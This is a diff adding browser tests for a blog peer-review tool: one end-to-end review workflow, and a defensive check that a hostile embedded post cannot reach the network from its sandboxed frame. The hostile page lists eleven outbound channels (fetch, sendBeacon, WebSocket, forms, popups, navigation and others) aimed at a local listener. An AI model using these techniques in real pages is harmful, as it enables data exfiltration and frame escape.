@@ -1,0 +1,304 @@
+"""The whole story in a real browser, and a hostile post that finds no way out of its frame."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any, ClassVar
+
+import pytest
+from typer.testing import CliRunner
+
+from blogkit.review.folder import ReviewFolder
+from blogkit.review.posts import add_revision, prepare_post
+from blogkit.review.roster import read_roster
+from tests.review.running import chromium, running
+from tests.review.school import key, open_school
+from tests.review.sites import write_site
+
+pytestmark = [pytest.mark.slow, pytest.mark.skipif(chromium() is None, reason="Chromium is not installed")]
+
+ARGUMENTS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--disable-background-networking", "--disable-sync"]
+
+
+@pytest.fixture
+def browser() -> Iterator[Any]:
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        one = playwright.chromium.launch(executable_path=str(chromium()), args=ARGUMENTS)
+        yield one
+        one.close()
+
+
+def sign_in(browser: Any, link: str, errors: list[str]) -> Any:
+    """A browser of somebody's own, signed in; what goes wrong in its pages is noted."""
+    page = browser.new_context(viewport={"width": 1280, "height": 900}).new_page()
+    page.set_default_timeout(20_000)
+    page.on("pageerror", lambda error: errors.append(str(error)))
+    page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
+    page.goto(link)
+    page.get_by_role("button", name="Sign in").click()
+    page.wait_for_url("**/home")
+    return page
+
+
+def comment(page: Any, text: str, kind: str = "Question") -> None:
+    """Fills in the composer that is open."""
+    page.locator("#composer textarea").fill(text)
+    page.get_by_role("radio", name=kind).check()
+    before = page.locator(".thread").count()
+    page.locator("#composer button.primary").click()
+    page.locator(".thread").nth(before).wait_for()
+
+
+def command(*arguments: str) -> str:
+    from blogkit.cli import app, reviews
+
+    assert reviews.review
+    done = CliRunner().invoke(app, ["review", *arguments], catch_exceptions=False)
+    assert done.exit_code == 0, done.output
+    return done.stdout
+
+
+def test_assign_sign_in_annotate_submit_revise_answer_close_report(
+    tmp_path: Path, browser: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    site = tmp_path / "site"
+    site.mkdir()
+    monkeypatch.chdir(site)
+    write_site(site)
+    roster = "name,email,role,project\nAda Lovelace,ada@uni.example,,alpha\nCy Twombly,cy@uni.example,,beta\n"
+    (site / "roster.csv").write_text(roster + "Tess Taylor,tess@uni.example,staff,\n")
+    folder = ReviewFolder(root=site / ".blogkit" / "review")
+    (site / "roster.csv").write_text(roster + "Dee Dee,dee@uni.example,,gamma\nTess Taylor,tess@uni.example,staff,\n")
+    command("assign", "--roster", "roster.csv", "--seed", "3", "--reviews", "1")
+    command("assign", "--publish")
+    assert "alpha: revision" in command("revise")
+    errors: list[str] = []
+    with running(folder) as server:
+        links = {
+            row["name"].split()[0]: row["link"]
+            for row in csv.DictReader(io.StringIO(command("links", "--url", server.app)))
+        }
+        drafted = command("report")
+        reader = "Cy" if "Cy Twombly, alpha" in drafted else "Dee"
+
+        # a reader annotates a passage, by the mouse
+        page = sign_in(browser, links[reader], errors)
+        page.get_by_role("link", name="alpha").click()
+        frame = page.frame_locator("#post")
+        passage = frame.get_by_text("The second paragraph says")
+        passage.wait_for()
+        page.wait_for_timeout(500)
+        box = passage.bounding_box()
+        page.mouse.move(box["x"] + 2, box["y"] + 12)
+        page.mouse.down()
+        page.mouse.move(box["x"] + 330, box["y"] + 12, steps=6)
+        page.mouse.up()
+        page.locator("#composer").wait_for()
+        assert "second paragraph says" in page.locator("#composer .quote").inner_text()
+        comment(page, "Why *ten* percent, and not $p = 0.2$?", "Must fix")
+        assert page.locator(".thread math").count() == 1
+
+        # a point of the living chart
+        drawing = frame.locator(".bk-drawing").first
+        drawing.scroll_into_view_if_needed()
+        drawing.hover()
+        frame.locator(".bk-figure[data-state=awake]").wait_for()
+        page.wait_for_timeout(300)
+        spot = frame.locator(".bk-awake path[aria-roledescription], .bk-awake .mark-symbol path").first
+        spot.wait_for()
+        symbols = frame.locator(".bk-awake .mark-symbol.role-mark path")
+        point = symbols.nth(5).bounding_box()
+        page.mouse.click(point["x"] + point["width"] / 2, point["y"] + point["height"] / 2)
+        page.locator("#composer fieldset").wait_for()
+        quote = page.locator("#composer .quote").inner_text()
+        assert re.match(
+            r"fig-loss, optimizer adam, step 50: loss 0\.28 · run run0 \(optimizer adam, seed 0\)", quote
+        ), quote
+        comment(page, "This point is oddly low.")
+
+        # a cell, an equation, and the post as a whole; the equation by the keyboard alone
+        frame.locator("td", has_text="0.410").hover()
+        frame.locator("#review-tool").click()
+        assert page.locator("#composer .quote").inner_text() == "sgd / error: 0.410"
+        comment(page, "Is this a mean?")
+        page.locator("#post").focus()
+        for _ in range(40):
+            page.keyboard.press("j")
+            page.wait_for_timeout(60)
+            if "math" in page.locator("#saved").inner_text():
+                break
+        page.keyboard.press("Enter")
+        page.locator("#composer").wait_for()
+        assert "λ" in page.locator("#composer .quote").inner_text()
+        comment(page, "Say what $\\lambda$ is.", "Suggestion")
+        page.get_by_role("button", name="Comment on the whole post").click()
+        comment(page, "A pleasure to read.", "Praise")
+        assert page.locator(".thread").count() == 5
+
+        # the rubric saves itself, and is submitted
+        page.get_by_role("tab", name="Rubric").click()
+        fields = page.locator("[data-points]")
+        for number in range(fields.count()):
+            fields.nth(number).fill("8")
+        page.locator("[data-summary]").fill("Sound, and clear.")
+        page.get_by_text("Saved", exact=True).wait_for()
+        page.reload()
+        page.get_by_role("tab", name="Rubric").click()
+        assert page.locator("[data-points]").first.input_value() == "8"
+        page.get_by_role("button", name="Submit the review").click()
+        page.get_by_text("The authors see it now").wait_for()
+
+        # the authors revise: a new run, an edit, a deleted paragraph; and answer
+        write_site(site, value=0.336, discussion="We left the limitations out.")
+        source = site / "projects" / "alpha" / "index.qmd"
+        source.write_text(source.read_text().replace("The second paragraph says", "This second paragraph says"))
+        from blogkit.config import load_site
+        from blogkit.render import render_site
+
+        render_site(load_site(site), engine="pandoc")
+        assert "number 2" in command("revise")
+        author = sign_in(browser, links["Ada"], errors)
+        author.goto(f"{server.app}/read/alpha")
+        author.locator(".thread").first.wait_for()
+        assert author.get_by_text("Cy Twombly").count() + author.get_by_text("Dee Dee").count() == 0
+        thread = author.locator(".thread", has_text="oddly low")
+        assert "was 0.28, now 0.336" in thread.inner_text()
+        thread.get_by_role("button", name="Answer").click()
+        thread.get_by_label("Commit").fill("98b85a5")
+        thread.get_by_label("Answer", exact=True).fill("We ran it again.")
+        thread.get_by_role("button", name="Send").click()
+        author.get_by_text("Done in 98b85a5").wait_for()
+
+        # the reader sees it on the new render, opens it, and closes it
+        page.reload()
+        thread = page.locator(".thread", has_text="oddly low")
+        thread.get_by_text("We ran it again.").wait_for()
+        thread.get_by_role("button", name=re.compile("Show comment")).click()
+        frame.locator(".pin.active").wait_for()
+        thread.get_by_role("button", name="Close").click()
+        thread.get_by_text("closed").wait_for()
+        moved = page.locator(".thread", has_text="ten percent")
+        assert "not in the newest revision" not in moved.inner_text()
+
+        # staff see it through
+        staff = sign_in(browser, links["Tess"], errors)
+        staff.goto(f"{server.app}/staff")
+        assert "1 of 6 submitted" in re.sub(r"\s+", " ", staff.locator(".numbers").inner_text())
+        report = command("report", "--format", "csv").splitlines()
+        ada = next(dict(zip(report[0].split(","), row.split(","), strict=True)) for row in report if "ada@" in row)
+        assert ada["score"] == "40" and ada["reviews"] == "1"
+    assert [error for error in errors if "favicon" not in error] == []
+
+
+# --- the hostile post -----------------------------------------------------------------------------------------------
+
+MAKE = "const make = (name, facts, into) => into.append(Object.assign(document.createElement(name), facts));"
+WAYS = {
+    "fetch": "fetch(T + 'fetch', {mode: 'no-cors'}).catch(() => {});",
+    "image": "new Image().src = T + 'image';",
+    "beacon": "navigator.sendBeacon(T + 'beacon', 'x');",
+    "css": "make('style', {textContent: `body{background:url(${T}css)}`}, document.head);",
+    "prefetch": "make('link', {rel: 'prefetch', href: T + 'prefetch'}, document.head);",
+    "script": "make('script', {src: T + 'script'}, document.head);",
+    "frame": "make('iframe', {src: T + 'frame'}, document.body);",
+    "websocket": "new WebSocket(T.replace('http', 'ws') + 'websocket');",
+    "form": "make('iframe', {name: 'sink'}, document.body);"
+    " make('form', {id: 'leak', method: 'post', action: T + 'form', target: 'sink'}, document.body); leak.submit();",
+    "popup": "window.open(T + 'popup');",
+    "navigation": "const go = () => { try { top.location = T + 'navigation'; } catch { }"
+    " location = T + 'navigation'; };"
+    " setTimeout(go, 1500);",
+}
+
+
+class Listener(BaseHTTPRequestHandler):
+    """Notes every request that reaches it."""
+
+    heard: ClassVar[set[str]]
+
+    def do_GET(self) -> None:
+        self.heard.add(self.path.strip("/").split("?")[0])
+        self.send_response(200)
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.end_headers()
+
+    def do_POST(self) -> None:
+        self.do_GET()
+
+    def log_message(self, format: str, *arguments: Any) -> None:
+        """Quiet."""
+
+
+@pytest.fixture
+def listener() -> Iterator[tuple[str, set[str]]]:
+    Listener.heard = set()
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_port}/", Listener.heard
+    server.shutdown()
+    server.server_close()
+    thread.join()
+
+
+def hostile_page(target: str) -> str:
+    """A post that tries each way out; the navigation last, since it ends the rest."""
+    scripts = "".join(
+        f"<script>try {{ const T = {target!r}; {MAKE} {code} }} catch {{ }}</script>" for code in WAYS.values()
+    )
+    static = (
+        f'<link rel="prefetch" href="{target}prefetch"><link rel="dns-prefetch" href="{target}">'
+        f'<img src="{target}image"><meta http-equiv="refresh" content="2;url={target}navigation">'
+        f'<iframe src="{target}frame"></iframe><p style="background:url({target}css)">x</p>'
+        f'<script src="{target}script"></script>'
+    )
+    return f"<!DOCTYPE html><html><head></head><body><main><p>Hello.</p>{static}</main>{scripts}</body></html>"
+
+
+def test_the_hostile_post_gets_out_eleven_ways_where_nothing_holds_it(
+    tmp_path: Path, browser: Any, listener: tuple[str, set[str]]
+) -> None:
+    target, heard = listener
+    (tmp_path / "hostile.html").write_text(hostile_page(target))
+    page = browser.new_page()
+    page.goto((tmp_path / "hostile.html").as_uri(), wait_until="commit")
+    for _ in range(60):
+        if set(WAYS) <= heard:
+            break
+        page.wait_for_timeout(100)
+    assert set(WAYS) <= heard, "otherwise the next test would prove nothing"
+
+
+@pytest.mark.parametrize("custom", [False, True], ids=["declarative", "custom scripts"])
+def test_a_hostile_post_reaches_no_listener_from_its_frame(
+    tmp_path: Path, browser: Any, listener: tuple[str, set[str]], custom: bool
+) -> None:
+    target, heard = listener
+    folder = open_school(tmp_path)
+    site = tmp_path / "hostile"
+    site.mkdir()
+    (site / "index.html").write_text(hostile_page(target))
+    roster = read_roster(folder.roster, folder.secret())
+    prepared = prepare_post("alpha", site / "index.html", site, roster, custom_scripts=custom)
+    add_revision(folder, prepared, scripts=custom)
+    assert ("sendBeacon" in prepared.html) == custom
+    assert key(folder, "cy")
+    with running(folder) as server:
+        page = sign_in(browser, server.link("cy"), [])
+        opened: list[Any] = []
+        page.context.on("page", lambda one: opened.append(one))
+        page.goto(f"{server.app}/read/alpha")
+        page.frame_locator("#post").get_by_text("Hello.").wait_for()
+        page.locator("#panel .tabs").wait_for()
+        page.wait_for_timeout(4000)
+        assert page.url == f"{server.app}/read/alpha", "the frame must not take the page away"
+        assert opened == []
+    assert heard == set()
